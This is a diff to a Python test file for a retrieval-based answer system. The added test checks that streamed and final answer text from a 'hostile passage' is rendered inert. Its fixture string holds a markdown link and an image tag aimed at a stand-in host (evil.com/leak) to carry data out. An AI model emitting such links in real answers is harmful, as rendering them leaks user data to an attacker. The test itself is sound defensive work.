@@ -140,3 +140,29 @@ def test_answer_and_titles_from_a_hostile_passage_render_inert(hostile_library):
         for ch in ("\u202e", "\u202c", "\\u202e", "\\u202c", "\\u0000"):
             assert ch not in s
     assert data["evidence"][0]["title"].startswith("P-910 bearings gnitset")
+
+
+def test_streamed_answer_text_is_inert_too(hostile_library):
+    from sourcegate.answer import WrittenAnswer
+
+    live = "See [the chart\\](https://evil.com/leak?c=S) and \\<img src=https://evil.com/p.png> [1]"
+
+    class StreamingWriter:
+        name = "streaming-test"
+
+        def write(self, query, status, evidence, conflicts, search_text=None, on_event=None):
+            if on_event is not None:
+                on_event("delta", {"text": live})
+                on_event("replace", {"text": live})
+            return WrittenAnswer(live, [], self.name, path="local")
+
+    events = []
+    gate = SourceGate(hostile_library, judge=KeywordJudge(), writer=StreamingWriter())
+    try:
+        result = gate.ask("How often should I grease the P-910 bearings?", on_event=lambda k, d: events.append((k, d)))
+    finally:
+        gate.close()
+    sent = [d["text"] for k, d in events if k in ("delta", "replace")]
+    assert len(sent) == 2 and active_markup(live)
+    for text in sent + [result.answer]:
+        assert active_markup(text) == [], text
